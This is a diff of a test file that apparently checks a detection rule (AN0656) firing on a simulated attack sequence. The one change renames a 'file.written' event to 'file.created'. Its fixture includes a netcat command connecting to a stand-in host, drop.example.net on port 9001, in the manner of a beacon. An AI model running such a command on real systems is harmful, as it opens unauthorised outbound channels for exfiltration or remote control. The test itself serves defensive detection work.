@@ -30,7 +30,7 @@ test('a job made of an attachment is the attachment, run', async () => {
   handed(shell, 'a0000101c89474', 'list');
   log.at('clerk', 'a0000101c89474').run('/usr/bin/nc drop.example.net 9001').connect(BEACON, 9001);
   inOrder(firesAt(await scanLog(log), 'AN0656', 'high'), [
-    ['file.written', 'list'],
+    ['file.created', 'list'],
     ['file.linked', 'a0000101c89474'],
     ['content.executed', 'standard input'],
     ['network.connected', BEACON],
